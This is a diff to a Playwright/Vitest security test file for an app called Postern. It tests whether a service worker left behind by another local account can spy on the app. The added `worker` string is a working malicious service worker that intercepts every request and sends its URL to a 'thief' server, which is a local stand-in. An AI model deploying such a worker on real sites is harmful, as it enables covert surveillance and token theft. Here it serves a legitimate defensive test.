@@ -11,7 +11,7 @@ import type { Page } from 'playwright';
 import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
 import { WebSocket as Socket, WebSocketServer } from 'ws';
 import { appOfFile, browserOfFile } from './file-wide.ts';
-import { openPage, type RunningApp } from './start-app.ts';
+import { openPage, startApp, type RunningApp } from './start-app.ts';
 import { addressAt, dropFile, invoke, makeUsers } from './users-fixture.ts';
 
 let app: RunningApp;
@@ -31,21 +31,36 @@ afterEach(async () => {
   await app.close();
 });
 
-/** Another account's server on a port of its own; gives what the browser sent it. */
-async function stranger(port = 0): Promise<{ server: Server; url: string; heard: IncomingMessage[] }> {
+/** What a page of another account leaves behind in a browser: it sees whatever is opened at its origin, and tells `thief`. */
+const worker = (thief: string): string => `
+  addEventListener('install', () => skipWaiting());
+  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+  addEventListener('fetch', (event) => event.respondWith(
+    fetch('${thief}?saw=' + encodeURIComponent(event.request.url), { mode: 'no-cors' })
+      .then(() => new Response('a page of the worker', { headers: { 'content-type': 'text/html' } }))));`;
+
+/** Another account's server on a port of its own, with a script if told; gives what the browser sent it. */
+async function stranger(
+  port = 0,
+  host = '127.0.0.1',
+  script = '',
+): Promise<{ server: Server; url: string; heard: IncomingMessage[] }> {
   const heard: IncomingMessage[] = [];
   const server = createServer((request, response) => {
     heard.push(request);
     request.resume();
-    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>stranger</title>');
+    const type = request.url === '/worker.js' ? 'text/javascript' : 'text/html';
+    response
+      .writeHead(200, { 'content-type': type })
+      .end(type === 'text/html' ? '<!doctype html><title>stranger</title>' : script);
   });
-  server.listen(port, '127.0.0.1');
+  server.listen(port, host);
   await once(server, 'listening');
   onTestFinished(() => {
     server.close();
     server.closeAllConnections();
   });
-  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
+  return { server, url: `http://${host}:${(server.address() as AddressInfo).port}/`, heard };
 }
 
 /** Everything a page can try, with whatever its browser adds: what it got to read. */
@@ -104,7 +119,8 @@ const nothingHappened = async () => {
 
 describe('A page of another port in the same browser', () => {
   it('reads nothing, and the cookie that it is sent opens nothing', async () => {
-    const other = await stranger();
+    // Everybody on the computer can see at which address the shell listens.
+    const other = await stranger(0, new URL(origin).hostname);
     const foreign = await page.context().newPage();
     await foreign.goto(other.url);
     // The browser hands it over: cookies know no ports.
@@ -144,6 +160,37 @@ describe('A page of another port in the same browser', () => {
   });
 });
 
+describe('A service worker of another account, left behind in the browser where the shell’s port is the same each time', () => {
+  it('sees neither the link nor a call', async () => {
+    const thief = await stranger();
+    const planted = await stranger(0, '127.0.0.1', worker(thief.url));
+    const context = await browser!.newContext();
+    const victim = await context.newPage();
+    await victim.goto(planted.url);
+    await victim.evaluate(() => navigator.serviceWorker.register('/worker.js'));
+    await victim.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
+    planted.server.closeAllConnections();
+    await new Promise((resolve) => planted.server.close(resolve));
+
+    const fixed = await startApp({ port: Number(new URL(planted.url).port) });
+    try {
+      await victim.goto(fixed.url);
+      await victim.getByRole('heading', { name: 'Postern' }).first().waitFor();
+      await victim.reload();
+      await victim.getByRole('heading', { name: 'Postern' }).first().waitFor();
+      expect(thief.heard.map(({ url }) => url)).toEqual([]);
+      // It was there all the while, for whoever goes where it lies.
+      await victim.goto(planted.url);
+      expect(await victim.content()).toContain('a page of the worker');
+      expect(thief.heard.map(({ url }) => url)).toContain(`/?saw=${encodeURIComponent(planted.url)}`);
+      expect(thief.heard.map(({ url }) => url).join()).not.toMatch(/token|ticket/);
+    } finally {
+      await context.close();
+      await fixed.close();
+    }
+  });
+});
+
 describe('The window itself', () => {
   it('goes on after a reload, in a second tab, and with a file that is dropped', async () => {
     expect(page.url()).toBe(`${origin}/`);
@@ -173,7 +220,7 @@ describe('A program that takes the port of a shell that is gone', () => {
   it('is told nothing by the window that is still open', async () => {
     await app.close();
     await page.getByText('Postern does not answer').first().waitFor();
-    const taken = await stranger(Number(new URL(origin).port));
+    const taken = await stranger(Number(new URL(origin).port), new URL(origin).hostname);
     const sockets = new WebSocketServer({ server: taken.server });
     const said: string[] = [];
     const answered = new Promise<void>((resolve) => {
